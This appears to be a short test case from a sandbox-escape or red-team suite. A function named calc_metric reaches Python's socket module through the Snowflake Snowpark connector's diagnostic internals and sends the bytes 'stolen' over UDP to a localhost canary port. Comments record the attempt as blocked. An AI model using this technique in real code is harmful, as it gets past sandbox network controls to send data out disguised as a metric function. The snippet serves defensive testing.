# attempt: finds sockets in the connector's diagnosis
# goal: network
# stopped by: language, worker

import snowflake.snowpark as snowpark


def calc_metric(df):
    tools = snowpark.async_job.snowflake.connector.connection_diagnostic.socket
    tools.socket(tools.AF_INET, tools.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", CANARY_UDP))
    return 1.0
